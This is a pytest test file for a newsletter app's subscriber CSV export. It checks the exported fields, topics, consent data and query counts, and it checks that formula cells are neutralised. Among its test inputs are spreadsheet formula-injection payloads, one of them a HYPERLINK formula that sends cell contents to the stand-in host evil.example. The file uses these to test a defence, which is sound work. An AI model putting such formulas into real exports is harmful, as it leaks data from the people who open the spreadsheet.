"""Exporting subscribers as CSV: every field, topics, consent; formula cells neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from newsletters.models import Subscriber
from newsletters.subscribers.exporting import (
    COLUMNS,
    csv_lines,
    export_rows,
    neutralise_cell,
    write_csv,
)
from tests.factories import SubscriberFactory, TopicFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?x="&A1,"click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        (None, ""),
        (3, "3"),
    ],
)
def test_formula_cells_are_neutralised(value, expected):
    assert neutralise_cell(value) == expected


def test_export_has_every_field_topics_and_consent_record():
    ai, privacy = TopicFactory(slug="ai"), TopicFactory(slug="privacy")
    SubscriberFactory(
        email="ada@example.org",
        name='=HYPERLINK("https://evil.example")',
        active=True,
        topics=[privacy, ai],
        consent_source="import:mailchimp",
        consent_ip="203.0.113.7",
        consent_text="Subscribed in Mailchimp",
    )
    SubscriberFactory(email="left@example.org", status=Subscriber.Status.UNSUBSCRIBED)
    out = io.StringIO()
    assert write_csv(export_rows(), out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == list(COLUMNS)
    ada = rows[0]
    assert ada["email"] == "ada@example.org"
    assert ada["name"] == '\'=HYPERLINK("https://evil.example")'
    assert ada["status"] == "active" and ada["topics"] == "ai;privacy"
    assert ada["consent_source"] == "import:mailchimp" and ada["consent_ip"] == "203.0.113.7"
    assert ada["consent_text"] == "Subscribed in Mailchimp" and ada["consent_at"]
    assert ada["confirmed_at"] and ada["created_at"]
    assert rows[1]["status"] == "unsubscribed"


def test_export_queries_stay_flat(django_assert_max_num_queries):
    topic = TopicFactory()
    for n in range(40):
        SubscriberFactory(email=f"r{n}@example.org", topics=[topic])
    with django_assert_max_num_queries(2):
        lines = list(csv_lines(export_rows()))
    assert len(lines) == 41


def test_a_filtered_queryset_exports_only_its_rows():
    SubscriberFactory(email="a@example.org", active=True)
    SubscriberFactory(email="b@example.org")
    rows = list(export_rows(Subscriber.objects.filter(status="active")))
    assert [row[1] for row in rows[1:]] == ["a@example.org"]
